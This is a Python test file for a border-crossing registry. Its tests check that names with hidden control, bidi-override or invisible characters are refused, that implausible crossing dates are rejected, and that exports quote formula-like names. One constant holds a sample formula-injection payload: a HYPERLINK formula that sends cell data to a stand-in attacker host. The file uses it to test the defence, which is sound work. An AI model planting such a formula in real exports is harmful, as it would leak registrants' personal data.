"""Names and places are stored only without control, bidi-override and invisible characters
(API, desk and import alike); crossings have a plausible date; exports of stored text are safe
to open, including rows stored before these checks."""

import csv
import io

import pytest
from django.db import connection
from openpyxl import Workbook, load_workbook

from hbm.lib import text
from hbm.lib.rejected import Rejected
from hbm.registry import validation
from hbm.registry.models import Crossing, Person
from hbm.registry.services import imports
from tests.registry.helpers import register
from tests.registry.test_desk_views import DESK, HEAD, desk_data, field_errors
from tests.registry.test_import import HEADER
from tests.registry.test_registration_api import family, post

NUL = text.CONTROL.format("U+0000")
RLO = text.BIDI_CONTROL.format("U+202E RIGHT-TO-LEFT OVERRIDE")
ZWSP = text.INVISIBLE.format("U+200B ZERO WIDTH SPACE")
EXPORT = "/api/v1/crossings/export"
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&B3,"Click")', "+1", "-2", "@SUM(A1:A9)"]


@pytest.mark.parametrize(
    ("member", "field", "message"),
    [
        ({"given_name": "Ami\x00na"}, "members.0.given_name", NUL),
        ({"family_name": "\u202eDeng"}, "members.0.family_name", RLO),
        ({"father_name": "Al\u200bi"}, "members.0.father_name", ZWSP),
        (
            {"document_number": "SS\x1b123"},
            "members.0.document_number",
            text.CONTROL.format("U+001B"),
        ),
        ({"place_of_origin": "Yei\n"}, "members.0.place_of_origin", text.CONTROL.format("U+000A")),
    ],
)
def test_the_api_refuses_hidden_characters_by_field_and_saves_nothing(
    client_for, officer_amina, member, field, message
):
    body = family()
    body["members"][0].update(member)
    response = post(client_for(officer_amina), body)
    assert response.status_code == 422, response.content
    assert {"field": f"body.{field}", "message": message} in response.json()["errors"]
    assert not Person.objects.exists()


def test_group_text_is_checked_too(client_for, officer_amina):
    response = post(client_for(officer_amina), family(destination="Bunia\u202e"))
    assert response.status_code == 422
    assert response.json()["errors"] == [{"field": "body.destination", "message": RLO}]


def test_names_in_persian_script_with_their_joiners_are_stored_as_typed(client_for, officer_amina):
    body = family()
    body["members"][0].update(given_name="نیک\u200cزاد", name_original_script="کریم\u200cالله")
    response = post(client_for(officer_amina), body)
    assert response.status_code == 201, response.json()
    assert Person.objects.filter(given_name="نیک\u200cزاد").exists()


def test_a_crossing_dated_1900_is_refused(client_for, officer_amina):
    response = post(client_for(officer_amina), family(crossed_at="1900-01-01T08:00:00Z"))
    assert response.status_code == 422
    assert response.json()["errors"] == [
        {"field": "body.crossed_at", "message": validation.TOO_EARLY}
    ]
    assert (
        post(client_for(officer_amina), family(crossed_at="2001-01-01T08:00:00Z")).status_code
        == 201
    )


def test_the_desk_shows_the_refused_character_under_its_field(client_for, officer_amina):
    response = client_for(officer_amina).post(
        DESK, desk_data([{**HEAD, "given_name": "Moh\u202eammed"}])
    )
    assert response.status_code == 422
    assert field_errors(response.content.decode(), "id_members-0-given_name") == [RLO]
    assert not Person.objects.exists()


def test_the_desk_refuses_a_nul(client_for, officer_amina):
    response = client_for(officer_amina).post(
        DESK, desk_data([{**HEAD, "family_name": "Has\x00san"}])
    )
    assert response.status_code == 422
    assert field_errors(response.content.decode(), "id_members-0-family_name")
    assert not Person.objects.exists()


def test_an_import_names_the_line_of_each_refused_character_and_writes_nothing(officer_amina):
    rows = (
        "g1,head,Mohammed,Hassan,M,1984-03-12,,SSD,point-a,entry,,conflict,yes\n"
        "g2,head,Ami\x00na,Deng,F,1990,,SSD,point-a,entry,,,yes\n"
        "g3,head,Akol,De\u200bng,M,,,SSD,point-a,entry,1900-05-01T08:00:00+00:00,,yes\n"
    )
    with pytest.raises(Rejected) as caught:
        imports.registrations_import(
            actor=officer_amina,
            content=(HEADER + rows).encode(),
            filename="r.csv",
            dry_run=False,
        )
    assert caught.value.problems == [
        f"line 3: given_name: {NUL}",
        f"line 4: crossed_at: {validation.TOO_EARLY}",
        f"line 4: family_name: {ZWSP}",
    ]
    assert not Person.objects.exists()


def test_an_xlsx_import_is_checked_the_same_way(client_for, officer_amina):
    book = Workbook()
    for line in (
        HEADER + "g1,head,Amina,\u202eDeng,F,1990,,SSD,point-a,entry,,,yes\n"
    ).splitlines():
        book.active.append(line.split(","))
    upload = io.BytesIO()
    book.save(upload)
    upload.seek(0)
    upload.name = "r.xlsx"
    response = client_for(officer_amina).post(
        "/api/v1/registrations/import", {"file": upload, "dry_run": "false"}
    )
    assert response.status_code == 422
    assert response.json()["errors"] == [
        {"field": "body.file", "message": f"line 2: family_name: {RLO}"}
    ]
    assert not Person.objects.exists()


def legacy_names():
    # PostgreSQL can't store NUL in text at all; SQLite can, and old rows may hold it.
    return ["Ami\x1bna"] + (["Ami\x00na"] if connection.vendor == "sqlite" else [])


def test_an_xlsx_export_opens_whatever_text_was_stored_before(
    client_for, officer_amina, coordinator_patrick
):
    for name in legacy_names():
        (person,) = register(officer_amina, {"given_name": "placeholder", "family_name": "Deng"})
        Person.objects.filter(pk=person.pk).update(given_name=name)  # as an old row holds it
    response = client_for(coordinator_patrick).get(
        EXPORT, {"format": "xlsx", "crossing_point": "point-a"}
    )
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    names = [row[8] for row in sheet.iter_rows(min_row=3, values_only=True)]
    assert sorted(names) == sorted(
        n.replace("\x1b", "\ufffd").replace("\x00", "\ufffd") for n in legacy_names()
    )


def test_names_that_look_like_formulas_are_exported_as_text(
    client_for, officer_amina, coordinator_patrick
):
    for name in FORMULAS:
        register(officer_amina, {"given_name": name, "family_name": "Deng"})
    assert Crossing.objects.count() == len(FORMULAS)
    client = client_for(coordinator_patrick)
    response = client.get(EXPORT, {"format": "csv", "crossing_point": "point-a"})
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content)))
    assert sorted(r[8] for r in rows[2:]) == sorted(f"'{name}" for name in FORMULAS)
    response = client.get(EXPORT, {"format": "xlsx", "crossing_point": "point-a"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [row[8] for row in sheet.iter_rows(min_row=3)]
    assert sorted(c.value for c in cells) == sorted(FORMULAS)
    assert {c.data_type for c in cells} == {"s"}


def test_a_quoted_export_imports_back_with_the_names_as_stored(client_for, officer_amina):
    register(officer_amina, {"given_name": "@Amina", "family_name": "-Deng"})
    exported = b"".join(client_for(officer_amina).get(EXPORT).streaming_content)
    assert b"'@Amina" in exported
    summary = imports.registrations_import(
        actor=officer_amina, content=exported, filename="export.csv", dry_run=True
    )
    assert summary.sample[0]["head"] == "@Amina -Deng"
